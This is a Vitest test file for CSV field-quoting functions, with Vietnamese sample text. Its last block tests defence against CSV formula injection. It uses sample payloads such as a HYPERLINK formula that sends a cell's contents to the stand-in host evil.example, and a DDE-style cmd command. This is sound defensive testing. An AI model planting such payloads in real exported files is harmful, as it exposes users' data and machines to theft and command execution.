import { describe, expect, it } from 'vitest';
import { csvField, csvRecords } from './quote.js';

describe('csvField', () => {
  it('quotes fields with commas, quotes or line breaks, doubling inner quotes', () => {
    expect(csvField('chủ trì')).toBe('chủ trì');
    expect(csvField('chủ trì, phối hợp')).toBe('"chủ trì, phối hợp"');
    expect(csvField('Sở “A” "B"')).toBe('"Sở “A” ""B"""');
    expect(csvField('a\nb')).toBe('"a\nb"');
  });
});

describe('csvField with a semicolon delimiter', () => {
  it('quotes semicolons instead of commas', () => {
    expect(csvField('chủ trì, phối hợp', ';')).toBe('chủ trì, phối hợp');
    expect(csvField('a;b', ';')).toBe('"a;b"');
  });
});

describe('csvRecords', () => {
  it('ends every record with CRLF', () => {
    expect(csvRecords([['a', 'b'], ['c', 'd,e']])).toBe('a,b\r\nc,"d,e"\r\n');
  });
});

describe('csvField and formulas (CSV injection)', () => {
  it('puts a single quote before a field a spreadsheet would read as a formula, and quotes it', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"Bấm")')).toBe('"\'=HYPERLINK(""http://evil.example/?""&A1,""Bấm"")"');
    expect(csvField("+cmd|'/C calc'!A0")).toBe('"\'+cmd|\'/C calc\'!A0"');
    expect(csvField('-2+3+cmd|x')).toBe('"\'-2+3+cmd|x"');
    expect(csvField('@SUM(1+1)')).toBe('"\'@SUM(1+1)"');
    expect(csvField('\t=1+1')).toBe('"\'\t=1+1"');
    expect(csvField('\r=1+1')).toBe('"\'\r=1+1"');
    expect(csvField('\u0000=1')).toBe('"\'\u0000=1"');
    expect(csvField('\uff1d1+1')).toBe('"\'\uff1d1+1"');
    expect(csvField('=1;2', ';')).toBe('"\'=1;2"');
  });

  it('leaves formula signs that do not start the field, and plain text, as they are', () => {
    expect(csvField('Sở Y tế')).toBe('Sở Y tế');
    expect(csvField('a=b+c-d@e')).toBe('a=b+c-d@e');
    expect(csvField('2021-12-20')).toBe('2021-12-20');
    expect(csvField(' =1')).toBe(' =1');
    expect(csvField("'quoted")).toBe("'quoted");
  });
});
